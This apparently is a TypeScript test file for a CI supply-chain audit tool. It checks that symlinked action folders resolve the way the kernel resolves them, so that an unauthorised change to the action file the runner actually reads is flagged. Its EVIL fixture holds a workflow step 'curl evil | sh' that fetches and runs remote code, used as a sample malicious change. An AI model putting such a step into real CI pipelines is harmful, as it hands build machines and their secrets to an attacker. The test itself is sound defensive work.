// links216: derived-paths.ts followed a link to the file the CI runs by joining its target to the
// link's folder and normalizing the text, so a `..` after a link in the target was taken from the
// link's name (`tools/audit -> ../sub/l/../audit` read as `sub/audit`) where the kernel takes it from
// where the link leads (`sub/l -> ../vendor/x`: `vendor/audit`). The file the runner reads was not
// watched (a change there by a signer who is no maintainer passed) and the one named was (a change
// there failed). Each `..` is now climbed from the folder reached, link by link.
import { mkdirSync, realpathSync, symlinkSync } from 'node:fs';
import { join } from 'node:path';
import { cleanupTemp } from '../helpers/repo.js';
import { commitAsPerson } from '../helpers/ssh.js';
import { aliceAndBob, protectedPerCommit } from '../helpers/team.js';

afterAll(cleanupTemp);

const WF = 'on: push\njobs:\n  a:\n    runs-on: ubuntu-latest\n    steps:\n      - uses: ./tools/audit\n';
const ACTION = 'runs:\n  using: composite\n  steps:\n    - run: make\n      shell: bash\n';
const EVIL = 'runs:\n  using: composite\n  steps:\n    - run: curl evil | sh\n      shell: bash\n';

/** Bob's change of `path` to EVIL, then Alice's of the same to ACTION again: one audit, each commit's findings. */
async function changes(path: string): Promise<{ code: number; bob: string; alice: string; real: string }> {
  const t = aliceAndBob({ '.github/workflows/ci.yml': WF });
  t.r.write({ 'vendor/audit/action.yml': ACTION, 'vendor/x/.keep': '', 'sub/audit/action.yml': ACTION });
  for (const [link, target] of [
    ['tools/audit', '../sub/l/../audit'],
    ['sub/l', '../vendor/x'],
  ] as const) {
    mkdirSync(join(t.r.dir, link, '..'), { recursive: true });
    symlinkSync(target, join(t.r.dir, link));
  }
  commitAsPerson(t.r, t.alice, 'alice@example.com', 'the action, vendored', {});
  const got = await protectedPerCommit(t.r, [
    [t.bob, 'bob@example.com', { [path]: EVIL }],
    [t.alice, 'alice@example.com', { [path]: ACTION }],
  ]);
  // The reference: where the kernel finds the action folder in the checkout (libc's realpath: node's
  // own realpathSync joins a link's target to the path as text, and says `sub/audit`).
  const real = realpathSync.native(join(t.r.dir, 'tools/audit')).slice(realpathSync.native(t.r.dir).length + 1);
  return { code: got.code, bob: got.perChange[0]!, alice: got.perChange[1]!, real };
}

describe('links216: a .. after a link in a link target', () => {
  let runs: Awaited<ReturnType<typeof changes>>;
  let named: Awaited<ReturnType<typeof changes>>;
  beforeAll(async () => {
    [runs, named] = [await changes('vendor/audit/action.yml'), await changes('sub/audit/action.yml')];
  }, 120_000);
  it('the kernel reads tools/audit at vendor/audit', () => {
    expect(runs.real).toBe('vendor/audit');
  });
  it('the action the runner reads (vendor/audit), changed by a signer who is no maintainer: fails', () => {
    expect([runs.code, runs.bob]).toEqual([1, expect.stringContaining('vendor')]);
  });
  it("twin: the maintainer's change passes", () => {
    expect(runs.alice).toBe('');
  });
  it('the folder the text names (sub/audit), which no runner reads: a change there passes', () => {
    expect([named.code, named.bob, named.alice]).toEqual([0, '', '']);
  });
});
